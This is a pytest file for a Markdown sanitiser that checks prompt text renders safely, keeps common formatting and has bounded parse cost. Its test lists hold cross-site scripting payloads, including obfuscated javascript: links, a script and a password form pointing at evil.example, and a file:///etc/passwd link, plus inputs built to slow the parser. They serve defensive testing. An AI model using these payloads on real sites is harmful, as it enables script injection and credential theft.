"""Prompt text as Markdown: hostile input comes out harmless, common Markdown renders, cost is bounded."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from composite.library import markdown
from composite.library.markdown import CACHE_MAX_CHARS, render_body, render_description, sanitise
from composite.library.rules import BODY_MAX, DESCRIPTION_MAX

SAFE_TAGS = {"a", "blockquote", "br", "code", "del", "em", "hr", "li", "ol", "p", "pre", "s", "strong", "ul"}
SAFE_TAGS |= {"h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
SAFE_ATTRIBUTES = {"href", "title", "rel", "start", "class"}


class Elements(HTMLParser):
    """Every start tag of a piece of HTML with its attributes, as a browser's tokenizer sees them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep the tag and its attributes."""
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def assert_harmless(html: str) -> None:
    """Only the tags and attributes a prompt needs; every link relative, http(s) or mailto."""
    for tag, attrs in Elements(html).found:
        assert tag in SAFE_TAGS, (tag, html)
        assert set(attrs) <= SAFE_ATTRIBUTES, (tag, attrs)
        if tag == "a" and "href" in attrs:
            # What a browser does with the value: strip it, and drop tabs and newlines inside.
            href = "".join(attrs["href"].split()).strip("\x00- ")
            assert urlsplit(href).scheme.lower() in {"", "http", "https", "mailto"}, href
            assert attrs["rel"] == "nofollow noopener ugc"


JAVASCRIPT_LINKS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;vascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#0000106avascript:alert(1))",
    "[click](java%0ascript:alert(1))",
    "[click](<java\tscript:alert(1)>)",
    "[click](\\javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[click][ref]\n\n[ref]: &#106;avascript:alert(1)",
    "[ref]\n\n[ref]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[a](https://ok.example) [b](javascript:alert(1)) [c](/relative)",
]


@pytest.mark.parametrize("text", JAVASCRIPT_LINKS)
def test_script_links_in_every_markdown_form_are_not_links(text: str) -> None:
    html = render_body(text)
    assert_harmless(html)
    # What survives as a link has no scheme at all (a relative address) or http(s).
    hrefs = [attrs["href"] for tag, attrs in Elements(html).found if tag == "a"]
    assert {urlsplit(href).scheme for href in hrefs} <= {"", "https"}
    assert_harmless(render_description(text.split("\n", maxsplit=1)[0]))


RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<iframe src='https://evil.example'></iframe>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<div style="position:fixed;inset:0">cover</div>',
    '<p style="background:url(https://evil.example/track)">x</p>',
    "<style>body{display:none}</style>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password></form>",
    "<!-- <script>alert(1)</script> -->",
    "text <b onmouseover=alert(1)>bold</b> text",
    "<details open ontoggle=alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    '[x](https://ok.example "a&quot; onmouseover=&quot;alert(1)")',
]


@pytest.mark.parametrize("text", RAW_HTML)
def test_raw_html_is_shown_as_text_never_passed_through(text: str) -> None:
    html = render_body(text)
    assert_harmless(html)
    for tag, attrs in Elements(html).found:
        assert not any(name.startswith("on") or name == "style" for name in attrs), (tag, attrs)
    assert_harmless(render_description(text))


def test_the_sanitiser_alone_strips_what_the_parser_might_let_through() -> None:
    hostile = (
        '<script>alert(1)</script><img src=x onerror=alert(1)><iframe src="//e"></iframe>'
        '<a href="javascript:alert(1)" onclick="x()" style="color:red">a</a>'
        '<a href="jav&#x09;ascript:alert(1)">b</a><a href="data:text/html,x">c</a>'
        '<p style="x" class="evil">p</p><h1>big</h1><th class="align-left">ok</th>'
    )
    html = sanitise(hostile)
    assert_harmless(html)
    assert "alert" not in html.replace("&lt;", "<").split("<a", 1)[0]
    assert "<h1>" not in html
    assert 'class="evil"' not in html
    assert html.count('rel="nofollow noopener ugc"') == 3


def test_images_become_links_labelled_with_their_alt_text() -> None:
    html = render_body(
        "![a cat](https://img.example/cat.png) ![](https://img.example/x.png)\n\n"
        "[![badge](https://img.example/b.svg)](https://project.example)\n\n"
        "![pixel](data:image/png;base64,iVBORw0KGgo=) ![x](javascript:alert(1))"
    )
    assert_harmless(html)
    assert "<img" not in html
    assert '<a href="https://img.example/cat.png" rel="nofollow noopener ugc">a cat</a>' in html
    assert ">https://img.example/x.png</a>" in html  # no alt text: the address is the label
    # An image inside a link is that link's text, never a link inside a link.
    assert '<a href="https://project.example" rel="nofollow noopener ugc">badge</a>' in html
    assert "img.example/b.svg" not in html
    assert 'href="data:' not in html
    assert 'href="javascript:' not in html


def test_common_markdown_renders() -> None:
    html = render_body(
        "# Title\n\nSome *emphasis*, **strong** and `code <b>`.\n\n"
        "## Steps\n\n1. first\n2. second\n\n- a\n- b\n\n> quoted\n\n---\n\n"
        "```python\nprint('<script>') & {{name}}\n```\n\n"
        "| name | score |\n|:-----|------:|\n| ada | 10 |\n\n"
        "~~old~~ and a [link](https://example.com)."
    )
    assert_harmless(html)
    # Headings sit under the page's h2: h1 becomes h3 and so on.
    assert "<h3>Title</h3>" in html
    assert "<h4>Steps</h4>" in html
    assert "<em>emphasis</em>" in html
    assert "<strong>strong</strong>" in html
    assert "<code>code &lt;b&gt;</code>" in html
    assert "<ol>\n<li>first</li>\n<li>second</li>\n</ol>" in html
    assert "<ul>\n<li>a</li>" in html
    assert "<blockquote>\n<p>quoted</p>\n</blockquote>" in html
    assert "<hr>" in html
    # Code keeps its text, escaped, and nothing in it is Markdown.
    assert "<pre><code>print('&lt;script&gt;') &amp; {{name}}\n</code></pre>" in html
    assert '<th class="align-left">name</th>' in html
    assert '<td class="align-right">10</td>' in html
    assert "<s>old</s>" in html
    assert '<a href="https://example.com" rel="nofollow noopener ugc">link</a>' in html


def test_headings_never_skip_a_level() -> None:
    html = render_body("### starts deep\n\n###### deeper\n\n# top\n\n#### under top")
    assert [tag for tag, _ in Elements(html).found] == ["h3", "h4", "h3", "h4"]


def test_a_description_is_inline_markdown_only() -> None:
    html = render_description("A *short* `tool` for [docs](https://d.example) # not a heading")
    assert html == (
        'A <em>short</em> <code>tool</code> for <a href="https://d.example" rel="nofollow noopener ugc">'
        "docs</a> # not a heading"
    )
    assert "<h" not in render_description("# Heading")
    assert "<li>" not in render_description("- item")


def test_urls_are_not_linked_unless_written_as_links() -> None:
    assert "href" not in render_body("see www.example.com and https://example.com/x")


def test_a_body_nested_past_the_limit_is_shown_as_written() -> None:
    deep = ">" * 30 + " hidden at the bottom\n\nafter"
    html = render_body(deep)
    assert "hidden at the bottom" in html  # markdown-it alone would drop it
    assert html.startswith('<pre class="as-written">&gt;&gt;&gt;')
    # Up to the limit, nothing is lost and nothing falls back.
    html = render_body(">" * 19 + " nineteen quotes deep")
    assert html.count("<blockquote>") == 19
    assert "<p>nineteen quotes deep</p>" in html
    nine_lists = "".join(" " * (2 * depth) + f"- item {depth}\n" for depth in range(9))
    html = render_body(nine_lists)
    assert html.count("<ul>") == 9
    assert "item 8" in html
    assert render_body(nine_lists + " " * 18 + "- item 9\n").startswith('<pre class="as-written">')


# Bodies at the size limit shaped to be slow. Before the parser was metered the worst took
# 1.2 s (a line of 18 quotes then 24,000 lazy lines) against 7 ms for plain text; metered,
# each costs at most about 75 ms (docs/reliability.md).
WORST_BODIES = {
    "quotes then lazy lines": "> " * 18 + "a\n" + "a\n" * 23_990,
    "nested quotes": ">" * BODY_MAX,
    "nested quote lines": ">" * 19 + " a\n",
    "five quotes a line": "> " * 5 + "a\n",
    "nested lists": "".join(" " * (2 * i) + "- a\n" for i in range(200)),
    "nine lists then continued lines": "".join(" " * (2 * i) + "- a\n" for i in range(9)) + "  " * 9 + "a\n",
    "list markers": "- " * 24 + "a\n",
    "nine list markers a line": "- " * 9 + "a\n",
    "quotes and lists": "> - " * 12 + "a\n",
    "four quotes and lists a line": "> - " * 4 + "a\n",
    "lazy quotes": "> a\nb\n",
    "open brackets": "[",
    "nested brackets": "[" * 1000 + "]" * 1000,
    "unclosed links": "[a](",
    "unclosed long links": "[a](" + "x" * 100,
    "backticks": "`" * BODY_MAX,
    "backtick runs": " ".join("`" * i for i in range(1, 316)),
    "emphasis delimiters": "*_",
    "emphasis runs": "a**",
    "one run of stars": "*" * (BODY_MAX - 1) + "a",
    "underscores": "_a",
    "strikethrough": "~~a",
    "table rows": "|a|b|c|\n|-|-|-|\n" + "|x|y|z|\n" * (BODY_MAX // 7),
    "table of ten columns": "|a|b|c|d|e|f|g|h|i|j|\n" + "|-" * 10 + "|\n" + "|x|y|z|x|y|z|x|y|z|w|\n" * 3000,
    "table columns": "|a" * 5000 + "|\n" + "|-" * 5000 + "|\n" + ("|b" * 5000 + "|\n") * 3,
    "headings": "# a\n",
    "links": "[a](b) ",
    "reference uses": "".join(f"[a{i}]: /u\n" for i in range(1000)) + "[a1]" * 10_000,
    "reference definitions": "".join(f"[r{i}]: /u{i}\n" for i in range(5000)),
    "ampersands": "&",
    "images in links": "[![a](/i)](/l) ",
}


def first_render_cpu(body: str, fresh: str) -> tuple[float, str]:
    """The least CPU time of three first renders of body, each made unique so no cache helps."""
    best, html = float("inf"), ""
    for i in range(3):
        text = body[:-1] + chr(ord(fresh) + i)
        started = time.process_time()
        html = render_body(text)
        best = min(best, time.process_time() - started)
    return best, html


def at_the_limit(unit: str) -> str:
    """unit repeated to exactly BODY_MAX characters."""
    return (unit * (BODY_MAX // len(unit) + 1))[:BODY_MAX]


@pytest.mark.parametrize("name", list(WORST_BODIES))
def test_the_worst_bodies_cost_a_small_multiple_of_plain_text(name: str) -> None:
    # Plain text of the same size, measured alongside, so a busy machine slows both; fresh
    # for each shape, since a render kept from an earlier test would cost nothing.
    index = list(WORST_BODIES).index(name)
    plain, _ = first_render_cpu(at_the_limit("plain words on a line of their own\n"), chr(0x5000 + 3 * index))
    body = at_the_limit(WORST_BODIES[name])
    first, html = first_render_cpu(body, chr(0x4E10 + 3 * index))
    # Measured at most 10 times plain text (7 ms here); before the budget, up to 170 times.
    assert first < 20 * max(plain, 0.005), f"{name}: {first * 1000:.0f} ms, plain {plain * 1000:.1f} ms"
    assert len(html) <= 8 * BODY_MAX  # the most measured is 6.6 times the body (many short links)
    started = time.process_time()
    again = render_body(body[:-1] + chr(0x4E10 + 3 * list(WORST_BODIES).index(name) + 2))
    assert time.process_time() - started < 0.05  # from the cache
    assert again == html


def realistic_document() -> str:
    """Nearly BODY_MAX characters of a long prompt: prose, nested lists, a few wide tables, code, Chinese."""
    header = "| " + " | ".join(f"column {i}" for i in range(10)) + " |\n" + "|---" * 10 + "|\n"
    rows = ("| " + " | ".join(f"value {r}.{c}" for c in range(10)) + " |\n" for r in range(10))
    table = header + "".join(rows)
    prose = (
        "Act as a **reviewer** and read the [guide](https://example.com/{n}) before you answer; "
        "keep `code` as it is. Say what you would change and why, in the order a reader meets it, "
        "and leave alone what already works. Quote the sentence you mean, then the one you propose.\n\n"
    )
    section = (
        "## Step {n}\n\n"
        + prose * 3
        + "1. First\n   - a detail\n     - a finer one\n   - another\n2. Second\n\n"
        "> A quoted note\n> - with a list\n\n"
        "```python\ndef f(x):\n    return x * 2  # [not a link](x)\n```\n\n"
        "请用中文回答，并保持原有的格式。这是一个测试段落，其中有**强调**和`代码`。\n\n"  # noqa: RUF001
    )
    parts = [section.format(n=n) + (table + "\n" if n % 8 == 0 else "") for n in range(100)]
    text = ""
    for part in parts:
        if len(text) + len(part) > BODY_MAX:
            return text
        text += part
    return text


def test_a_long_realistic_prompt_still_renders_as_markdown() -> None:
    text = realistic_document()
    assert len(text) > 0.9 * BODY_MAX
    markdown.clear_cache()
    html = render_body(text)
    assert "as-written" not in html
    assert html.count("<table>") == text.count("| column 0 |") >= 3
    assert html.count("<ul>") == 3 * text.count("## Step")
    assert "<pre><code>def f(x):" in html
    assert "<strong>强调</strong>" in html
    assert '<a href="https://example.com/1" rel="nofollow noopener ugc">guide</a>' in html
    # Denser than the real documents measured (its own cost about 40 ms), yet inside the budget.
    meter = markdown._Meter()
    current = markdown._meter.set(meter)
    try:
        markdown._parser().parse(text, {})
        meter.charge_made()
    finally:
        markdown._meter.reset(current)
    assert meter.steps < 0.9 * markdown.WORK_MAX


def test_a_body_past_the_budget_is_shown_as_written() -> None:
    body = "> " * 18 + "a <b>\n" + "a\n" * 20_000
    html = render_body(body)
    assert html.startswith('<pre class="as-written">&gt; &gt; ')
    assert "a &lt;b&gt;" in html
    assert html.count("\n") >= 20_000  # every line kept


def test_the_longest_description_renders_within_a_bounded_cpu_time() -> None:
    for unit in ("[", "*_", "`", "<"):
        markdown.clear_cache()
        started = time.process_time()
        render_description((unit * DESCRIPTION_MAX)[:DESCRIPTION_MAX])
        assert time.process_time() - started < 0.1  # measured about 4 ms


def test_the_cache_is_bounded_and_keeps_the_most_recently_used() -> None:
    markdown.clear_cache()
    body = "x" * BODY_MAX
    first = render_body(body + "0")
    count = CACHE_MAX_CHARS // (2 * BODY_MAX) + 10
    for i in range(1, count):
        render_body(body + str(i))
        render_body(body + "0")  # kept fresh, so never the one dropped
    cached = markdown._cache
    assert cached.size <= CACHE_MAX_CHARS
    assert len(cached.entries) < count
    assert cached.get(("body", body + "0")) == first
    assert cached.get(("body", body + "1")) is None  # the oldest untouched, dropped
